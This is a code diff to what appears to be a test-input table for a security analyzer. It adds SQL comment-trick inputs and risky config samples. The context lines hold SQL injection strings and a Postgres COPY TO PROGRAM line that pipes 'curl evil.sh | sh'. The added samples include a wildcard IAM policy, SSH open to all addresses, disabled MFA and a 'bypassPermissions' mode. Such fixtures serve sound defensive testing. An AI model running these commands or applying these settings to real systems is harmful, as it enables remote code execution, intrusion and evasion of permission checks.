@@ -37,6 +37,23 @@ INPUTS: dict[str, tuple[str, str, str, list[str]]] = {
             "SELECT * FROM users WHERE name = '' OR 1=1 -- {n}",
             "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' LIMIT {n}",
             "COPY (SELECT {n}) TO PROGRAM 'curl evil.sh | sh'",
+            # Dialect-divergent tokens: these take the multi-dialect reading.
+            "SELECT id FROM users WHERE id = {n} # trailing note",
+            "DELETE FROM users WHERE id = {n} --1 OR 1=1",
+        ],
+    ),
+    "config": (
+        "config:analyze_config",
+        "update_config",
+        "settings",
+        [
+            '{{"feature_flags": {{"dark_mode": true, "max_items": {n}}}}}',
+            '{{"Statement": [{{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::b{n}/*"}}]}}',
+            '{{"Statement": [{{"Effect": "Allow", "Action": "*", "Resource": "*", "Sid": "s{n}"}}]}}',
+            '{{"IpPermissions": [{{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{{"CidrIp": "0.0.0.0/0"}}]}}], "n": {n}}}',
+            '{{"auth": {{"mfa": {{"enabled": false}}}}, "n": {n}}}',
+            '{{"permissions": {{"defaultMode": "bypassPermissions"}}, "n": {n}}}',
+            '{{"logging": {{"level": "info"}}, "retention_days": {n}}}',
         ],
     ),
     "filesystem": (
